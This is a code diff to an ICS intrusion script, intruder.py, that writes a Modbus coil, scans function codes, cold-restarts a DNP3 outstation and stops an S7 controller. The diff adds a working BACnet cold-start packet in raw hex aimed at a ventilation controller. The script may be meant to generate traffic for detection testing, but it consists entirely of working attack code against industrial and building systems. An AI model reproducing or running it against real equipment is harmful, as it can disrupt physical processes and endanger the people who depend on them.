@@ -1,6 +1,7 @@
-"""A station that nobody listed: writes a coil, scans function codes, restarts the outstation, stops the S7 controller.
+"""A station that nobody listed: writes a coil, scans function codes, restarts the outstation, stops the S7 controller,
+restarts the controller of the ventilation.
 
-Usage: intruder.py PLC OUTSTATION CONTROLLER PAUSE
+Usage: intruder.py PLC OUTSTATION CONTROLLER VENTILATION PAUSE
 """
 import asyncio
 import json
@@ -50,7 +51,15 @@ def stop(controller):
     client.disconnect()
 
 
-plc, outstation, controller, pause = *sys.argv[1:4], float(sys.argv[4])
+def reinitialize(ventilation):
+    """Asks a BACnet device for a cold start; whether it obeys is its own affair, but it answers."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        udp.settimeout(2)
+        udp.sendto(bytes.fromhex("810a000c 0104 00050114 0900"), (ventilation, 47808))
+        udp.recv(512)
+
+
+plc, outstation, controller, ventilation, pause = *sys.argv[1:5], float(sys.argv[5])
 write_coil(plc)
 time.sleep(pause)
 scanned = scan_functions(plc)
@@ -58,4 +67,7 @@ time.sleep(pause)
 asyncio.run(cold_restart(outstation))
 time.sleep(pause)
 stop(controller)
-print(json.dumps({"coils_written": 1, "functions_scanned": scanned, "cold_restarts": 1, "stops": 1}))
+time.sleep(pause)
+reinitialize(ventilation)
+done = {"coils_written": 1, "functions_scanned": scanned, "cold_restarts": 1, "stops": 1, "reinitialized": 1}
+print(json.dumps(done))
